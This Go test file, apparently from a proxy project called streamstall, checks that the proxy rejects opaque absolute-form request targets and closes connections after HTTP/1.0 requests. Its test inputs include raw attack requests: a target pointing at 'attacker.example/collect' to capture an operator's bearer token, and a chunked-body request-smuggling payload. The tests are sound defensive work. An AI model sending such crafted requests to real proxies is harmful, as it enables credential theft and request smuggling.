// Copyright The streamstall Authors
// SPDX-License-Identifier: Apache-2.0

package ssecapture

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/config/configopaque"
)

// TestProxyRefusesAnOpaqueTarget: a request target with a
// scheme and no path ("a:http://other.example/admin/secret", which
// url.ParseRequestURI reads as opaque) has no path for the prefix check
// to read, and SetURL leaves its Opaque alone: sent on, the upstream
// request's target would be the client's text, an absolute-form target
// naming any host and path, which an upstream (any RFC 9112 server, Go's
// included) serves. It gets 400, and nothing goes upstream.
func TestProxyRefusesAnOpaqueTarget(t *testing.T) {
	t.Run("request line", func(t *testing.T) {
		up := newRawUpstream(t, rawStep{data: "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"})
		f := newFixture(t, nil, withProxy(func(p *ProxyConfig) { p.Upstream.Endpoint = up.URL + "/openai" }))
		addr := f.rcv.addrs["proxy"].String()
		got := rawExchange(t, addr, "GET a:http://other.example/admin/secret HTTP/1.1\r\nHost: proxy\r\nConnection: close\r\n\r\n")
		status, _ := readResponses(got)
		assert.Equal(t, []string{"400 Bad Request"}, status)
		for _, head := range up.requests() {
			line, _, _ := strings.Cut(head, "\r\n")
			assert.True(t, strings.HasPrefix(line, "GET /openai"), "the upstream's request target left the prefix: %q", line)
		}
	})
	t.Run("served by a Go upstream", func(t *testing.T) {
		var mu sync.Mutex
		var seen []string
		upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			seen = append(seen, r.Host+" "+r.URL.Path)
			mu.Unlock()
			if !strings.HasPrefix(r.URL.Path, "/openai/") {
				_, _ = w.Write([]byte("ADMIN-ONLY"))
				return
			}
			_, _ = w.Write([]byte("{}"))
		}))
		t.Cleanup(upstream.Close)
		f := newFixture(t, nil, withProxy(func(p *ProxyConfig) { p.Upstream.Endpoint = upstream.URL + "/openai" }))
		addr := f.rcv.addrs["proxy"].String()
		got := rawExchange(t, addr, "GET a:http://internal.example/admin/secret HTTP/1.1\r\nHost: proxy\r\nConnection: close\r\n\r\n")
		status, body := readResponses(got)
		assert.Equal(t, []string{"400 Bad Request"}, status)
		mu.Lock()
		defer mu.Unlock()
		assert.NotContains(t, body, "ADMIN-ONLY", "a path outside the upstream's prefix was served")
		for _, s := range seen {
			assert.Contains(t, s, " /openai", "the upstream served %q", s)
		}
	})
}

// TestProxyRefusesAnOpaqueTargetThroughAnEgressProxy: with
// upstream.proxy_url (an egress proxy) and an http upstream, an opaque
// target sent on would be the absolute URL the egress proxy forwards to:
// the client would pick the host that gets the request, and the operator's
// credential (upstream.headers) with it.
func TestProxyRefusesAnOpaqueTargetThroughAnEgressProxy(t *testing.T) {
	var mu sync.Mutex
	var targets []string
	var creds []string
	egress := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		targets = append(targets, r.RequestURI)
		creds = append(creds, r.Header.Get("Authorization"))
		mu.Unlock()
		_, _ = w.Write([]byte("{}"))
	}))
	t.Cleanup(egress.Close)
	f := newFixture(t, nil, withProxy(func(p *ProxyConfig) {
		p.Upstream.Endpoint = "http://llm.internal/openai"
		p.Upstream.ProxyURL = egress.URL
		p.Upstream.Headers = configopaque.MapList{{Name: "Authorization", Value: "Bearer sk-operator-secret"}}
	}))
	addr := f.rcv.addrs["proxy"].String()
	got := rawExchange(t, addr, "GET a:http://attacker.example/collect HTTP/1.1\r\nHost: proxy\r\nConnection: close\r\n\r\n")
	status, _ := readResponses(got)
	assert.Equal(t, []string{"400 Bad Request"}, status)
	mu.Lock()
	defer mu.Unlock()
	for i, target := range targets {
		t.Logf("egress proxy asked for %q with Authorization %q", target, creds[i])
		u, err := url.Parse(target)
		require.NoError(t, err)
		assert.Equal(t, "llm.internal", u.Host, "the egress proxy was asked to forward to another host")
	}
}

// TestProxyClosesAfterAnHTTP10Request: RFC 9112 section 6.1: a server
// that receives an HTTP/1.0 message with Transfer-Encoding must treat its
// framing as faulty and close the connection after it. net/http ignores
// (and deletes) the header and frames the request by its Content-Length;
// on a keep-alive connection the rest of a chunked body, as a server in
// front that honoured it would frame it, would be served as a request of
// its own. Every HTTP/1.0 request is the last of its connection.
func TestProxyClosesAfterAnHTTP10Request(t *testing.T) {
	up := newRawUpstream(t, rawStep{data: "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"})
	f := newFixture(t, nil, withProxy(func(p *ProxyConfig) { p.Upstream.Endpoint = up.URL }))
	addr := f.rcv.addrs["proxy"].String()
	smuggled := "GET /v1/smuggled HTTP/1.1\r\nHost: proxy\r\n\r\n"
	chunk := fmt.Sprintf("%x\r\n", len(smuggled))
	req := fmt.Sprintf("POST /v1/models HTTP/1.0\r\nHost: proxy\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n%s%s\r\n0\r\n\r\n",
		len(chunk), chunk, smuggled)
	got := rawExchange(t, addr, req)
	status, _ := readResponses(got)
	assert.Equal(t, 1, strings.Count(got, "HTTP/1."), "one response, then the connection closes: %v", status)
	for _, head := range up.requests() {
		line, _, _ := strings.Cut(head, "\r\n")
		assert.NotContains(t, line, "/v1/smuggled", "the bytes of the chunked body were served as a request")
	}
}
